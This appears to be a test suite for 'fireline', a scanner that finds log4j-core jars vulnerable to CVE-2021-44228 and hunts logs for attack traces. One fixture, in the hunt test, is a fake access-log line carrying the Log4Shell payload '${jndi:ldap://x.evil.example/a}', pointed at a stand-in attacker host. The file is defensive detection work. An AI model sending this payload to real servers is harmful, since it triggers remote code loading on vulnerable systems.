import { execFile } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import Ajv from 'ajv'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { zipOf } from '../kit/archives/zip.ts'
import { describeWithLab } from '../kit/lab.ts'
import { log4jCore } from '../kit/log4j-jars.ts'
import { openVexSchema } from '../kit/openvex-schema.ts'

const run = promisify(execFile)
const folder = mkdtempSync(join(tmpdir(), 'fireline-library-'))
const { home } = inject('packed')
const programs = mkdtempSync(join(home, 'programs-'))
afterAll(() => {
  for (const each of [folder, programs]) rmSync(each, { recursive: true })
})

/** The examples of docs/library.md, in order, as they stand there. */
const examples = [...readFileSync('docs/library.md', 'utf8').matchAll(/^```js\n([^]*?)^```$/gm)].map(
  ([, code = '']) => code,
)

/** Runs a program beside the installed package, as one that depends on it. */
async function runProgram(code: string, args: readonly string[] = [], input = ''): Promise<string> {
  const path = join(programs, `${Math.abs(code.length)}.mjs`)
  writeFileSync(path, code)
  const running = run(process.execPath, [path, ...args], { cwd: folder })
  running.child.stdin?.end(input)
  return (await running).stdout
}

test('the examples are three: one that scans, one that judges what it was sent, one that hunts', () => {
  expect(examples.map((code) => /openvex|hunt/.exec(code)?.[0])).toEqual([undefined, 'openvex', 'hunt'])
})

test.each([
  ['files', ['access.log', 'named.log'], ''],
  ['a stream', ['-'], 'streamed'],
])('the third says what came of attacks, in %s', async (_what, paths, input) => {
  const attack =
    '203.0.113.9 - - [10/Dec/2021:12:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://x.evil.example/a}"\n'
  const query =
    '10-Dec-2021 12:00:01.416 queries: info: client @0x7f2a40 10.0.0.5#53211 (x.evil.example): query: x.evil.example IN A + (10.0.0.53)\n'
  writeFileSync(join(folder, 'access.log'), attack)
  writeFileSync(join(folder, 'named.log'), query)
  const said = await runProgram(examples[2] ?? '', paths, input === '' ? '' : attack + query)

  expect(said).toBe(`${paths[0]}:1: jndi:ldap://x.evil.example/a from 203.0.113.9: likely\n`)
})

test('a list of parts that was sent is told in a format', async () => {
  const document = JSON.parse(await runProgram(examples[1] ?? '')) as { statements: { status: string }[] }
  const validate = new Ajv({ allErrors: true }).compile(openVexSchema)

  validate(document)
  expect(validate.errors ?? []).toEqual([])
  expect(document.statements.map(({ status }) => status)).toContain('affected')
})

describeWithLab('with a real jar', () => {
  beforeAll(async () => {
    mkdirSync(join(folder, 'srv/node_modules'), { recursive: true })
    const war = zipOf([{ name: 'WEB-INF/lib/a.jar', content: await log4jCore('2.14.1') }])
    writeFileSync(join(folder, 'srv/shop.war'), war)
    writeFileSync(join(folder, 'srv/node_modules/left-out.war'), war)
    writeFileSync(join(folder, 'srv/fake.jar'), 'no archive')
    for (let i = 0; i < 40; i++) writeFileSync(join(folder, `srv/${i}.war`), war)
  })

  test('the first example finds it, and says what it could not examine', async () => {
    const lines = (await runProgram(examples[0] ?? '', ['srv'])).trimEnd().split('\n')

    expect(lines).toHaveLength(42)
    expect(lines.find((line) => line.includes('shop.war'))).toMatch(
      /^srv\/shop\.war!WEB-INF\/lib\/a\.jar: pkg:maven\/.*log4j-core@2\.14\.1: CVE-2021-44228, .*Update/,
    )
    expect(lines.at(-1)).toMatch(/^42 files; not examined: srv\/fake\.jar: malformed, /)
  })

  test('leaving the loop ends it, an abort ends it without an error, and what is wrong is a Problem', async () => {
    const said = await runProgram(
      `
      import { Problem, scan } from 'fireline'
      for await (const event of scan({ paths: ['srv'] })) { console.log('first', event.is); break }
      const stop = new AbortController()
      let n = 0
      for await (const event of scan({ paths: ['srv'] }, { signal: stop.signal, workers: 1 })) { n++; stop.abort() }
      console.log('stopped', n > 0)
      try { for await (const _ of scan({ paths: ['nowhere'] })); } catch (error) {
        console.log(error instanceof Problem, error.code, error.hint.length > 0)
      }
      for await (const _ of scan({})) console.log('never')
      for await (const _ of scan({ paths: ['srv'] }, { signal: AbortSignal.abort() })) console.log('never')
    `,
      ['x'],
    )

    expect(said).toMatch(/^first \w+\nstopped true\ntrue SCAN_NOTHING_THERE true\n$/)
  })
})
